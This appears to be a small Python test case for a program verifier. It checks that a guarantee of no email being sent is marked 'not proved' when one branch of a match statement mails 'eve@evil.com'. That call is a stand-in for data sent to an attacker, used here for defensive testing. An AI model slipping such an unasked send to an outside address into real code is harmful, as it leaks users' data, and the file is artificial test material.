# not proved: a match statement runs one of its cases
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log, number


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    match number():
        case 1:
            send_email("eve@evil.com", "x")
        case _:
            log("x")
